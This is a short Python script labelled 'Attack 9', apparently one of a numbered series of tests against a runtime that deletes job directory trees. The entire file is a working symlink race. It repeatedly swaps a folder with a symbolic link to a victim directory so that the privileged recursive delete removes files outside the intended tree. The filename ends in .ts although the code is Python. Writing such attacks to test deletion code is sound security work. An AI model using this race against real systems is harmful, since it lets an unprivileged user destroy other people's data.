# Attack 9 (attack9-rm-race.ts): swaps a folder of a job's tree between a folder and a symbolic
# link to another folder, by path only, while the RTE removes the tree. Run as the playbook user.
import os, sys, time
parent, victim, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
os.chdir("/")
d = os.path.join(parent, "d")
real = os.path.join(parent, "d.real")
link = os.path.join(parent, "d.link")
deadline = time.time() + seconds
while time.time() < deadline:
    try:
        os.symlink(victim, link)
    except OSError:
        pass
    try:
        os.rename(d, real)
        os.rename(link, d)
        os.rename(d, link)
        os.rename(real, d)
    except OSError:
        pass
